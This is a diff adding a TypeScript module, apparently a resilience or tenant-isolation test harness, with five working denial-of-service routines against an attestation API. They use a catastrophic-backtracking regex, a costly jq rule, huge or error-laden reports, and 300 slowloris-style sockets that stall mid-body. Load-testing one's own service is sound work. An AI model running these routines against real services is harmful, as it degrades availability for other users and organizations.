@@ -1,0 +1,195 @@
+import { once } from "node:events";
+import { connect, type Socket } from "node:net";
+import { setTimeout as delay } from "node:timers/promises";
+import { fingerprint } from "./large-data.ts";
+import { requestText } from "./raw-http.ts";
+
+interface Target {
+  readonly address: string;
+  readonly org: string;
+  readonly apiKey: string;
+  /** Takes the status of each answer; 0 where there was none. */
+  readonly note: (status: number) => void;
+}
+
+/** Goes on until it is told that it is over. */
+type Course = (isOver: () => boolean) => Promise<void>;
+
+/** Prepares an attack, and gives what carries it out. */
+type Preparation = (target: Target) => Promise<Course>;
+
+const ENVIRONMENT = "production";
+const MEGABYTE = 1_000_000;
+
+/** Each state of the automaton is another one for each text: none can be kept for the next. */
+const PATTERN = "[ab]*a[ab]{990}[cd]";
+const POLICY = `_schema: https://example.com/schemas/policy/environment/v1
+artifacts:
+  provenance:
+    required: true
+    exceptions:
+      - if: \${{ matches(artifact.name, "${PATTERN}") }}
+`;
+
+/** What an organization can do to all others, if they let it. */
+export const ATTACKS = {
+  async patterns(target) {
+    await createEnvironment(target);
+    await sendForm(target, "PUT", `/policies/${target.org}`, { name: "hostile" }, { policy_file: POLICY });
+    const attach = JSON.stringify({ policy_names: ["hostile"] });
+    await send(target, "POST", `/environments/${target.org}/${ENVIRONMENT}/policies`, attach);
+    const names = Array.from({ length: 20 }, (_, seed) => mixed(20_000, seed));
+    const list = `/attestations/${target.org}?name_regex=${encodeURIComponent(PATTERN)}`;
+    let round = 0;
+    return repeating(4, async () => {
+      round += 1;
+      if (round % 2 === 0) return await send(target, "GET", list);
+      return await report(
+        target,
+        names.map((name, index) => entryOf(index + round, name)),
+      );
+    });
+  },
+
+  async jqRules(target) {
+    const type = {
+      name: "slow",
+      evaluator: { content_type: "jq", rules: ["[range(20000000)] | length > 0"] },
+    };
+    await sendForm(target, "POST", `/custom-attestation-types/${target.org}`, type, { type_schema: "{}" });
+    const attestation = { attestation_name: "slow", type_name: "slow", attestation_data: { percent: 80 } };
+    const path = `/attestations/${target.org}/web/trail/slow/custom`;
+    return repeating(16, () => sendForm(target, "POST", path, attestation, {}));
+  },
+
+  async manyErrors(target) {
+    await createEnvironment(target);
+    const body = JSON.stringify({ type: "K8S", artifacts: Array.from({ length: 100_000 }, () => ({})) });
+    return repeating(4, () => send(target, "PUT", reportPath(target), body));
+  },
+
+  async heldBodies(target) {
+    await createEnvironment(target);
+    const head = requestText("PUT", reportPath(target), {
+      ...{ host: new URL(target.address).host, apiKey: target.apiKey, type: "application/json", body: "" },
+      announced: 9.5 * MEGABYTE,
+    });
+    const held = Buffer.alloc(9 * MEGABYTE, " ");
+    return async (isOver) => {
+      const sockets = Array.from({ length: 300 }, () => hold(target, head, held));
+      while (!isOver()) await delay(50);
+      for (const socket of sockets) socket.destroy();
+    };
+  },
+
+  async largeReport(target) {
+    await createEnvironment(target);
+    const artifacts = (first: number) =>
+      Array.from({ length: 60_000 }, (_, index) => entryOf(first + index, `i${index}`));
+    await report(target, artifacts(0));
+    let first = 0;
+    const snapshot = `/snapshots/${target.org}/${ENVIRONMENT}/-1`;
+    const reporting = repeating(1, async () => {
+      first += 60_000;
+      return await report(target, artifacts(first));
+    });
+    const reading = repeating(8, () => send(target, "GET", snapshot));
+    return async (isOver) => void (await Promise.all([reporting(isOver), reading(isOver)]));
+  },
+} as const satisfies Readonly<Record<string, Preparation>>;
+
+/** Does something over and over, several times at once. */
+function repeating(times: number, work: () => Promise<number>): Course {
+  return async (isOver) => {
+    const one = async () => {
+      while (!isOver()) {
+        const status = await work();
+        // One that is told to wait does; what others then notice is no less.
+        if (status === 429 || status === 503 || status === 0) await delay(100);
+      }
+    };
+    await Promise.all(Array.from({ length: times }, one));
+  };
+}
+
+async function send(
+  { address, apiKey, note }: Target,
+  method: string,
+  path: string,
+  body?: string | FormData,
+): Promise<number> {
+  const isJson = typeof body === "string";
+  const headers = {
+    authorization: `Bearer ${apiKey}`,
+    ...(isJson && { "content-type": "application/json" }),
+  };
+  try {
+    const answer = await fetch(`${address}/api/v2${path}`, {
+      method,
+      headers,
+      ...(body !== undefined && { body }),
+    });
+    // What is not read would be held back.
+    await answer.arrayBuffer();
+    note(answer.status);
+    return answer.status;
+  } catch {
+    note(0);
+    return 0;
+  }
+}
+
+async function sendForm(
+  target: Target,
+  method: string,
+  path: string,
+  data: unknown,
+  files: Readonly<Record<string, string>>,
+): Promise<number> {
+  const form = new FormData();
+  form.append(path.startsWith("/policies/") ? "payload" : "data_json", JSON.stringify(data));
+  for (const [part, text] of Object.entries(files)) form.append(part, new Blob([text]), `${part}.yml`);
+  return await send(target, method, path, form);
+}
+
+async function createEnvironment(target: Target): Promise<void> {
+  const body = JSON.stringify({ name: ENVIRONMENT, type: "K8S", description: "" });
+  const status = await send(target, "PUT", `/environments/${target.org}`, body);
+  if (status >= 300) throw new Error(`The environment was answered with ${status}`);
+}
+
+function reportPath({ org }: Target): string {
+  return `/environments/${org}/${ENVIRONMENT}/report/K8S`;
+}
+
+async function report(target: Target, artifacts: readonly unknown[]): Promise<number> {
+  return await send(target, "PUT", reportPath(target), JSON.stringify({ type: "K8S", artifacts }));
+}
+
+function entryOf(number: number, name: string) {
+  return { podName: "p", namespace: "n", digests: { [name]: fingerprint(number) }, creationTimestamp: 1 };
+}
+
+/** A text of two letters without a pattern in it. */
+function mixed(length: number, seed: number): string {
+  let state = seed + 1;
+  const letters = Array.from({ length }, () => {
+    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
+    return state & 0x10000 ? "a" : "b";
+  });
+  return letters.join("");
+}
+
+/** Opens a connection that sends most of a body, and then nothing more. */
+function hold({ address, note }: Target, head: string, body: Buffer): Socket {
+  const { hostname, port } = new URL(address);
+  const socket = connect(Number(port), hostname);
+  socket.on("error", () => {});
+  once(socket, "data").then(
+    ([answer]: Buffer[]) => note(Number(answer?.toString("latin1", 9, 12))),
+    () => note(0),
+  );
+  socket.write(head);
+  socket.write(body);
+  return socket;
+}
